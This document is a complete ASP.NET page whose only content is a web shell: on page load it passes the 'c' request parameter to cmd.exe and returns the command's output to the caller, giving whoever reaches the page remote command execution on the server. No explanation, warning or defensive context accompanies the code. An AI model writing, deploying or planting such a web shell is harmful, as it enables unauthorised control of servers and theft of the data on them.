<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request["c"]);
    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
    Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());
}
</script>
